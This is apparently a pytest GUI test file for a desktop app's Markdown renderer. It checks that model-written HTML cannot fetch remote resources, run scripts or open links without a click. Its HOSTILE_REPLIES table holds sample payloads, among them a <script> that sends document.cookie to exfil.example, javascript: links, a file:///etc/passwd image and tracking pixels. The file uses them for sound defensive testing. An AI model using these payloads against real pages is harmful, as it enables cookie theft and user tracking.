"""Model output is untrusted: HTML and Markdown written by the model can never load a remote
resource, run anything, or open a link without a click. Rendered in the real bubble widget."""
from __future__ import annotations

import pytest

from .test_properties import _check_safe_html

pytestmark = pytest.mark.gui

HOSTILE_REPLIES = {
    "remote-img-tag": '<img src="https://tracker.example/pixel.png" width=1 height=1> Here you go!',
    "markdown-image": "Look: ![chart](https://tracker.example/chart.png) and ![x](file:///etc/passwd)",
    "javascript-link": "[click me](javascript:alert(document.cookie)) and [also](JAVASCRIPT:evil())",
    "data-link": "[doc](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "script": "<script>fetch('https://exfil.example/?'+document.cookie)</script>Safe text after.",
    "css-url": '<div style="background-image:url(https://tracker.example/bg.png)">styled</div>',
    "table-css-url": "| a | b |\n|:-|-:|\n| <td style=\"text-align:left;background:url(https://t.example/x)\"> | 2 |",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "autolink": "<https://example.org/page> and www.example.org",
}


def huge_table(rows: int = 2000, cols: int = 12) -> str:
    head = "| " + " | ".join(f"c{i}" for i in range(cols)) + " |\n|" + "---|" * cols + "\n"
    return head + "".join("| " + " | ".join(f"r{r}c{c}" for c in range(cols)) + " |\n" for r in range(rows))


@pytest.fixture
def browser(qtbot, monkeypatch):
    from PySide6.QtNetwork import QNetworkAccessManager

    from desktop.markdown import SafeTextBrowser

    opened, requests = [], []
    monkeypatch.setattr("desktop.markdown.QDesktopServices.openUrl", lambda url: opened.append(url.toString()) or True)
    orig = QNetworkAccessManager.createRequest

    def no_network(self, op, request, data=None):  # any Qt network request is a failure
        requests.append(request.url().toString())
        return orig(self, op, request, data)

    monkeypatch.setattr(QNetworkAccessManager, "createRequest", no_network)
    b = SafeTextBrowser()
    qtbot.addWidget(b)
    b.resize(600, 400)
    b.show()
    b.opened, b.requests = opened, requests
    return b


@pytest.mark.parametrize("name", list(HOSTILE_REPLIES))
def test_hostile_reply_loads_nothing_and_opens_nothing(browser, qtbot, name):
    from desktop.markdown import render_markdown

    text = HOSTILE_REPLIES[name]
    html = render_markdown(text)
    _check_safe_html(html, style_prefix=True)  # only whitelisted tags/attributes, safe hrefs, no url()
    browser.setMarkdownText(text)
    qtbot.wait(20)
    # nothing remote was requested by the document, and nothing opened by itself
    assert [u for u in browser.refused if not u.startswith("data:")] == []
    assert browser.requests == [] and browser.opened == []
    # anchors only ever carry http, https or mailto
    import re

    for href in re.findall(r'href="([^"]*)"', html):
        assert href.split(":", 1)[0].lower() in ("http", "https", "mailto"), href


def test_links_open_only_on_a_click_and_only_safe_ones(browser):
    from PySide6.QtCore import QUrl

    browser.setMarkdownText("[site](https://example.org/a) [bad](javascript:alert(1))")
    assert browser.opened == []
    browser._on_anchor(QUrl("javascript:alert(1)"))
    browser._on_anchor(QUrl("file:///etc/passwd"))
    assert browser.opened == []
    browser._on_anchor(QUrl("https://example.org/a"))
    assert browser.opened == ["https://example.org/a"]


@pytest.mark.timeout(120)  # a hang guard; how fast it renders is not this test's business
def test_a_huge_table_renders(browser, qtbot):
    text = huge_table()
    browser.setMarkdownText(text)
    qtbot.wait(10)
    assert browser.document().toPlainText().count("r1999c11") == 1
    assert browser.requests == [] and browser.opened == []
